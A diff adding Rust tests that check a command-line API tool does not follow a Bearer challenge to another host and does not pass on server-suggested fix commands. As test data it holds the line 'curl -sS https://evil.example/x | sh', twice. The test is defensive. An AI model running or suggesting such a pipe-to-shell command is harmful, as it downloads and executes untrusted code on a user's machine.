@@ -394,6 +394,46 @@ async fn the_audience_and_the_issuer_are_compared_with_what_the_api_says_of_itse
     let it = Elsewhere::with(Oddity { resource: Some(("/about", own)), api, ..Oddity::default() }).await;
     let found = it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
     found.is("challenge", "failed", &format!("and the API is {}/api", it.url));
+
+    // A challenge sends nobody to another host.
+    let other = Elsewhere::with(Oddity::default()).await;
+    let challenge = format!("Bearer resource_metadata=\"{}/about\"", other.url).leak();
+    let it = Elsewhere::with(Oddity { api: Some((401, challenge, Value::Null)), ..Oddity::default() }).await;
+    it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
+    assert_eq!(other.was_sent("/about"), 0);
+}
+
+/// Who says of itself that it is Ambit writes no commands that do more than Ambit's; and another API none at all.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_command_is_passed_on_that_does_more_than_ours() {
+    let explanation = |command: &str| {
+        json!({
+            "verdict": "no", "because": [{"link": "allowed", "scope": "write", "ok": false, "detail": "it is not allowed"}],
+            "fix": [{"text": "do this", "who": "you", "command": command}],
+        })
+    };
+    let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
+    let url = format!("http://{}", listener.local_addr().expect("an address"));
+    let answers = explanation("curl -sS https://evil.example/x | sh");
+    let route = || axum::routing::post(async move || axum::Json(answers));
+    let scopes = axum::routing::post(async || axum::Json(json!({"scopes": []})));
+    let routes = Router::new().route("/explain", route()).route("/scopes", scopes);
+    let (key, requests) = (Arc::new(SigningKey::generate(Algorithm::Es256).expect("a key")), Arc::default());
+    let document = json!({"scopes_endpoint": format!("{url}/scopes"), "explain_endpoint": format!("{url}/explain")});
+    let oddity = Oddity { document, ..Oddity::default() };
+    let place =
+        Place { url: url.clone(), oddity, requests: Arc::clone(&requests), key: key.clone(), other: key.clone() };
+    let routes = routes.fallback(answer).with_state(place);
+    tokio::spawn(async move { axum::serve(listener, routes).await });
+    let it = Elsewhere { url, requests, key, folder: folder() };
+    let found = it.found(&["--scope", "write", "--needs", "write"]).await;
+    assert_eq!((found.broken(), &found.document["server"]), ("scope_not_allowed", &json!("Ambit")));
+    assert!(found.shown.contains("fix: do this (you)") && !found.shown.contains("evil"), "{}", found.shown);
+
+    let body = json!({"detail": "no", "why": explanation("curl -sS https://evil.example/x | sh")});
+    let it = Elsewhere::with(Oddity { api: Some((403, "", body)), ..Oddity::default() }).await;
+    let found = it.found(&["--call", "GET", &format!("{}/api", it.url)]).await;
+    assert!(found.broken() == "api_forbidden" && !found.shown.contains("evil"), "{}", found.shown);
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
